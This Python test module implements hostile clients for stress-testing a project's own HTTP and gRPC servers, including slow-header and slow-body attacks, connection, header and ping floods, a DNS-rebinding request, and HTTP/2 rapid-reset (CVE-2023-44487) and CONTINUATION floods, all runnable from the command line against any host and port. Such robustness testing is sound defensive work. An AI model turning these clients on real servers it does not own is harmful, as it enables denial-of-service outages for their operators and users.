"""Clients that want to harm a server: idle, slow, flooding and malformed ones, over HTTP and over gRPC's HTTP/2.

Each is a coroutine function of (host, port) that goes on until it is cancelled. A connection that the server closes is
opened again at once. Used by tests of the servers and by benchmarks/hostile_clients.py.

    python -m tests.hostile_clients 64 http:127.0.0.1:8080 grpc:127.0.0.1:7000

attacks all of these servers with 64 clients together, until it is killed.
"""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, contextmanager, suppress

import grpc
import grpc.aio

type Client = Callable[[str, int], Awaitable[None]]
type Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]

REGISTER = "/specrl.api.v1.CoordinatorService/Register"
HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NOISE = os.urandom(5000)
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
ACK, END_HEADERS = 0x1, 0x4


@asynccontextmanager
async def attack(clients: Sequence[Client], count: int, host: str, port: int) -> AsyncIterator[None]:
    """Have `count` clients attack a server, of each kind as many."""
    tasks = [asyncio.create_task(_persist(clients[number % len(clients)], host, port)) for number in range(count)]
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


@contextmanager
def start_attack(count: int, *targets: str) -> Iterator[None]:
    """Have `count` clients attack KIND:HOST:PORT from a process of their own, so that they do not share its loop."""
    command = [sys.executable, "-m", "tests.hostile_clients", str(count), *targets]
    with (
        tempfile.TemporaryFile() as errors,
        subprocess.Popen(command, stdout=subprocess.PIPE, stderr=errors, text=True) as process,
    ):
        try:
            assert process.stdout is not None
            process.stdout.readline()  # it has begun, or ended
            yield
            if process.poll() is not None:
                errors.seek(0)
                raise AssertionError(f"the attack ended: {errors.read()[-3000:].decode()}")
        finally:
            process.kill()


async def _persist(client: Client, host: str, port: int) -> None:
    while True:
        with suppress(OSError, EOFError, grpc.RpcError, grpc.aio.UsageError):
            await client(host, port)
        await asyncio.sleep(0.01)


@asynccontextmanager
async def connected(host: str, port: int, first: bytes = b"") -> AsyncIterator[Streams]:
    """A connection over which `first` has been sent."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(first)
        await writer.drain()
        yield reader, writer
    finally:
        writer.transport.abort()


async def read_until_closed(reader: asyncio.StreamReader) -> bytes:
    """Read what the server sends before it closes the connection."""
    found = b""
    with suppress(OSError):
        while data := await reader.read(1 << 16):
            found = (found + data)[-(1 << 16) :]
    return found


# -- over HTTP --------------------------------------------------------------------------------------------------------


def a_request(path: str = "/status", method: str = "GET", *more: str) -> bytes:
    """A request, complete up to its body."""
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", *more, "", "")).encode()


async def stay_idle(host: str, port: int) -> None:
    """Connect and say nothing."""
    async with connected(host, port) as (reader, _):
        await read_until_closed(reader)


async def send_head_slowly(host: str, port: int) -> None:
    """Send a byte of the headers now and then."""
    async with connected(host, port) as (_, writer):
        for byte in a_request("/status", "GET", *(f"X-{number}: 1" for number in range(500))):
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(0.2)


async def send_body_slowly(host: str, port: int) -> None:
    """Send a byte of a body now and then."""
    async with connected(host, port, a_request("/scale", "PUT", "Content-Length: 9000")) as (_, writer):
        while True:
            writer.write(b"[")
            await writer.drain()
            await asyncio.sleep(0.2)


async def send_body_without_end(host: str, port: int) -> None:
    """Send a chunked body as fast as the server reads it."""
    chunk = b"10000\r\n" + b"[" * 0x10000 + b"\r\n"
    async with connected(host, port, a_request("/scale", "PUT", "Transfer-Encoding: chunked")) as (_, writer):
        while True:
            writer.write(chunk)
            await writer.drain()


async def lie_about_length(host: str, port: int) -> None:
    """Announce a body of no length, of a wrong one, and of a huge one."""
    for length in ("-1", "1", "9" * 40, "x"):
        async with connected(host, port, a_request("/scale", "PUT", f"Content-Length: {length}")) as (reader, writer):
            writer.write(b"[" * 100_000)
            await read_until_closed(reader)


async def read_nothing(host: str, port: int) -> None:
    """Ask again and again, and read no answer."""
    async with connected(host, port) as (reader, writer):
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        while True:
            writer.write(a_request("/openapi.json"))
            await writer.drain()
            await asyncio.sleep(0.05)


async def flood_requests(host: str, port: int) -> None:
    """Ask over one connection as fast as the server answers."""
    async with connected(host, port) as (reader, writer):
        while True:
            writer.write(a_request("/metrics"))
            await reader.readuntil(b"\r\n\r\n")


async def flood_connections(host: str, port: int) -> None:
    """Connect as fast as the server accepts."""
    while True:
        async with connected(host, port, a_request("/status", "GET", "Connection: close")):
            pass


async def flood_headers(host: str, port: int) -> None:
    """Send headers without end."""
    async with connected(host, port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n") as (_, writer):
        while True:
            writer.write(b"X-Same: same\r\n" * 100)
            await writer.drain()


async def pipeline_requests(host: str, port: int) -> None:
    """Send many requests at once."""
    async with connected(host, port, a_request("/spec") * 500) as (reader, _):
        await read_until_closed(reader)


async def send_noise(host: str, port: int) -> None:
    """Send what is not HTTP."""
    async with connected(host, port, NOISE) as (reader, _):
        await read_until_closed(reader)


async def ask_as_rebound_page(host: str, port: int) -> None:
    """Ask as a browser whose page has been rebound to this machine."""
    asked = b"GET /rollouts HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n"
    async with connected(host, port, asked) as (reader, _):
        await read_until_closed(reader)


HTTP_CLIENTS: Sequence[Client] = (
    stay_idle,
    send_head_slowly,
    send_body_slowly,
    send_body_without_end,
    lie_about_length,
    read_nothing,
    flood_requests,
    flood_connections,
    flood_headers,
    pipeline_requests,
    send_noise,
    ask_as_rebound_page,
)


# -- over gRPC --------------------------------------------------------------------------------------------------------


def a_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def a_header(name: str, value: str) -> bytes:
    """A header in HPACK, literal and without an index."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HTTP2_START = HTTP2_PREFACE + a_frame(SETTINGS, 0, 0)
A_PING = a_frame(PING, 0, 0, bytes(8))
CALL = b"".join(
    a_header(name, value)
    for name, value in (
        *((":method", "POST"), (":scheme", "http"), (":path", REGISTER), (":authority", "127.0.0.1")),
        *(("te", "trailers"), ("content-type", "application/grpc")),
    )
)


async def stay_idle_in_http2(host: str, port: int) -> None:
    """Begin HTTP/2, and call nothing."""
    async with connected(host, port, HTTP2_START) as (reader, _):
        await read_until_closed(reader)


async def flood_calls(host: str, port: int) -> None:
    """Call without the token, many calls at once."""
    async with grpc.aio.insecure_channel(f"{host}:{port}", [("grpc.use_local_subchannel_pool", 1)]) as channel:
        register = channel.unary_unary(REGISTER)
        while True:
            await asyncio.gather(*(register(b"", timeout=30.0) for _ in range(50)), return_exceptions=True)


async def reset_calls(host: str, port: int) -> None:
    """Begin a call and cancel it, again and again (CVE-2023-44487)."""
    async with connected(host, port, HTTP2_START) as (reader, writer):
        reading = asyncio.create_task(read_until_closed(reader))
        for stream in range(1, 1 << 30, 2):
            if reading.done():
                return
            writer.write(a_frame(HEADERS, END_HEADERS, stream, CALL) + a_frame(RST_STREAM, 0, stream, bytes(4)))
            await writer.drain()


async def begin_calls(host: str, port: int) -> None:
    """Begin calls without end, and never send their requests."""
    async with connected(host, port, HTTP2_START) as (reader, writer):
        reading = asyncio.create_task(read_until_closed(reader))
        for stream in range(1, 1 << 30, 2):
            if reading.done():
                return
            writer.write(a_frame(HEADERS, END_HEADERS, stream, CALL))
            await writer.drain()
            await asyncio.sleep(0.001)


async def send_large_requests(host: str, port: int) -> None:
    """Send requests of 32 MiB without the token."""
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    async with grpc.aio.insecure_channel(f"{host}:{port}", options) as channel:
        while True:
            with suppress(grpc.RpcError):
                await channel.unary_unary(REGISTER)(bytes(32 << 20), timeout=30.0)


async def flood_metadata(host: str, port: int) -> None:
    """Send headers without end (CONTINUATION)."""
    async with connected(host, port, HTTP2_START + a_frame(HEADERS, 0, 1, CALL)) as (reader, writer):
        reading = asyncio.create_task(read_until_closed(reader))
        while not reading.done():
            writer.write(a_frame(CONTINUATION, 0, 1, a_header("x-more", "y" * 100) * 100))
            await writer.drain()


async def flood_pings(host: str, port: int) -> None:
    """Ping without end."""
    async with connected(host, port, HTTP2_START) as (reader, writer):
        reading = asyncio.create_task(read_until_closed(reader))
        while not reading.done():
            writer.write(A_PING * 10)
            await writer.drain()


async def send_noise_in_http2(host: str, port: int) -> None:
    """Begin HTTP/2, and go on with noise."""
    async with connected(host, port, HTTP2_START + NOISE) as (reader, _):
        await read_until_closed(reader)


GRPC_CLIENTS: Sequence[Client] = (
    stay_idle,
    stay_idle_in_http2,
    flood_calls,
    reset_calls,
    begin_calls,
    send_large_requests,
    flood_metadata,
    flood_pings,
    flood_connections,
    send_noise,
    send_noise_in_http2,
)


async def _attack_all(count: int, targets: Sequence[str]) -> None:
    """Attack each target, KIND:HOST:PORT, with an equal part of `count` clients.

    Targets of one kind begin with different clients, so that all clients have a turn where a target has only a few.
    """
    async with AsyncExitStack() as attacks:
        begun = {"http": 0, "grpc": 0}
        for number, target in enumerate(targets):
            kind, host, port = target.split(":")
            clients = HTTP_CLIENTS if kind == "http" else GRPC_CLIENTS
            share = count // len(targets) + (number < count % len(targets))
            first = begun[kind] % len(clients)
            begun[kind] += share
            await attacks.enter_async_context(attack([*clients[first:], *clients[:first]], share, host, int(port)))
        await asyncio.sleep(0.1)  # every client has connected once
        sys.stdout.write("attacking\n")
        sys.stdout.flush()
        await asyncio.Event().wait()


if __name__ == "__main__":
    # A neighbour with its own processor: what it computes is no fault of the servers.
    os.nice(19)
    asyncio.run(_attack_all(int(sys.argv[1]), sys.argv[2:]))
